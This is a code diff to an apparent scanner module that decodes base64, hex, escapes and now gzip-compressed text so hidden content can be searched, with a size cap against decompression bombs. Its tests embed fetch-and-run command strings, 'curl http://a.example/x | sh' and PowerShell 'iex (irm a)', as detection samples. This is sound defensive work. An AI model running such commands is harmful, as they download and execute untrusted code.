@@ -1,9 +1,12 @@
 //! Text inside text: what base64, hexadecimal or escapes hide is decoded and searched as well.
 
+use std::io::Read;
+
 use base64::{
     Engine as _, alphabet,
     engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
 };
+use flate2::read::GzDecoder;
 use memchr::memchr;
 
 use crate::{
@@ -20,6 +23,12 @@ const SHORTEST: usize = 24;
 
 /// Steps that a text that was decoded costs on top of its bytes.
 const RUN: usize = 64;
+
+/// What compressed bytes begin with.
+const GZIP: [u8; 2] = [0x1f, 0x8b];
+
+/// Bytes that are read of what is compressed.
+const INFLATED: u64 = 256 << 10;
 
 /// Encodings inside encodings that are followed.
 const DEPTH: usize = 3;
@@ -142,7 +151,18 @@ fn decode(run: &[u8]) -> Option<String> {
         })
         .collect();
     let whole = if standard.len() % 4 == 1 { standard.get(..standard.len() - 1)? } else { &standard };
-    into_text(LENIENT.decode(whole).ok()?)
+    let decoded = LENIENT.decode(whole).ok()?;
+    if decoded.starts_with(&GZIP) {
+        return inflated(GzDecoder::new(decoded.as_slice()));
+    }
+    into_text(decoded)
+}
+
+/// The text that compressed bytes hold, as far as it is read.
+fn inflated(from: impl Read) -> Option<String> {
+    let mut bytes = Vec::new();
+    from.take(INFLATED).read_to_end(&mut bytes).ok()?;
+    into_text(bytes)
 }
 
 fn unhex(digits: &[u8]) -> Option<Vec<u8>> {
@@ -186,6 +206,19 @@ mod tests {
         assert_eq!(texts(r"\x63\x75\x72\x6c\x20\x2d\x73\x53"), ["curl -sS"]);
         let wide = "aQBlAHgAIAAoAGkAcgBtACAAYQApAA==";
         assert_eq!(texts(wide), ["iex (irm a)"]);
+    }
+
+    #[test]
+    fn what_is_compressed_is_read_as_far_as_it_is_short() {
+        use std::io::Write;
+        let packed = |text: &str| {
+            let mut to = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+            to.write_all(text.as_bytes()).unwrap();
+            LENIENT.encode(to.finish().unwrap())
+        };
+        assert_eq!(texts(&packed("curl http://a.example/x | sh")), ["curl http://a.example/x | sh"]);
+        let bomb = packed(&"a".repeat(1 << 24));
+        assert!(texts(&bomb).iter().all(|text| text.len() as u64 <= INFLATED));
     }
 
     #[test]
